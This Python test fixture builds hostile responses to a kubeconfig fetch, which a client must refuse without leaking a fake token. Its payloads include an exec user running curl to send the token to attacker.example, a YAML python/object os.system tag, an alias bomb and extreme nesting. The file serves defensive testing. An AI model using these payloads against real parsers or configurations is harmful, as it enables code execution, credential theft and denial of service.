"""A catalogue of hostile answers to ``GET .../kubeconfig``: every one must be refused.

Each body carries :data:`SECRET`, a token-looking string, so a test can prove that nothing the
upstream sent -- however broken -- ends up in a log, a condition or an event.
"""

from __future__ import annotations

import base64
import dataclasses
import random
from typing import Any

import yaml

SECRET = "dop_v1_HOSTILE-SECRET-7d1c0b9e4a"
SERVER = "https://bd5f5959-5e1e-4205-a714-a914373942af.k8s.ondigitalocean.com"


@dataclasses.dataclass(frozen=True)
class HostileBody:
    id: str
    body: bytes
    content_type: str | None = None  # None: the endpoint's own (application/yaml)


def kubeconfig(
    *, ca_pem: bytes, user: dict[str, Any] | None = None, server: str = SERVER
) -> dict[str, Any]:
    """A kubeconfig of DigitalOcean's shape, whose token is :data:`SECRET`."""
    name = "do-nyc1-hostile"
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [
            {
                "name": name,
                "cluster": {
                    "server": server,
                    "certificate-authority-data": base64.b64encode(ca_pem).decode(),
                },
            }
        ],
        "users": [{"name": f"{name}-admin", "user": user or {"token": SECRET}}],
        "contexts": [{"name": name, "context": {"cluster": name, "user": f"{name}-admin"}}],
        "current-context": name,
    }


def _yaml(document: Any) -> bytes:
    return yaml.safe_dump(document, sort_keys=False).encode()


def catalogue(*, ca_pem: bytes) -> list[HostileBody]:
    """Every hostile answer; ``ca_pem`` is a real CA, so that each body has one thing wrong."""
    good = kubeconfig(ca_pem=ca_pem)
    several = kubeconfig(ca_pem=ca_pem)
    for section in ("clusters", "users", "contexts"):
        several[section] = several[section] * 2
    bad_ca = kubeconfig(ca_pem=b"-----BEGIN CERTIFICATE-----\n" + SECRET.encode())
    wrong_types = {**good, "clusters": SECRET, "users": {"token": SECRET}, "contexts": 42}
    exec_user = {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "sh"}}
    exec_user["exec"]["args"] = ["-c", f"curl -d {SECRET} https://attacker.example"]
    auth_provider = {"auth-provider": {"name": "oidc", "config": {"id-token": SECRET}}}
    garbage = random.Random(7).randbytes(4096)  # noqa: S311 - reproducible garbage
    return [
        HostileBody("not-yaml", f"clusters: [{{{SECRET}: ]\n\t- {{".encode()),
        HostileBody("html", f"<html><body>{SECRET}</body></html>".encode(), "text/html"),
        HostileBody("empty", b""),
        HostileBody("huge", _yaml({**good, "padding": "x" * (1024 * 1024)})),
        HostileBody("deeply-nested", ("[" * 100_000 + SECRET + "]" * 100_000).encode()),
        HostileBody("alias-bomb", _alias_bomb()),
        HostileBody("python-tag", f"!!python/object/apply:os.system ['{SECRET}']\n".encode()),
        HostileBody("wrong-types", _yaml(wrong_types)),
        HostileBody("a-list", _yaml([good])),
        HostileBody("several-clusters-and-users", _yaml(several)),
        HostileBody("exec", _yaml(kubeconfig(ca_pem=ca_pem, user=exec_user))),
        HostileBody("auth-provider", _yaml(kubeconfig(ca_pem=ca_pem, user=auth_provider))),
        HostileBody(
            "http-server", _yaml(kubeconfig(ca_pem=ca_pem, server=SERVER[:4] + SERVER[5:]))
        ),
        HostileBody("invalid-ca", _yaml(bad_ca)),
        HostileBody("binary-garbage", garbage[:2048] + SECRET.encode() + garbage[2048:]),
        HostileBody("not-utf8", _yaml(good) + b"\xff\xfe"),
        HostileBody("duplicate-user", _yaml(good) + b"users: [{name: x, user: {}}]\n"),
    ]


def _alias_bomb() -> bytes:
    lines = [f'a0: &a0 ["{SECRET}"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    return "\n".join(lines).encode()
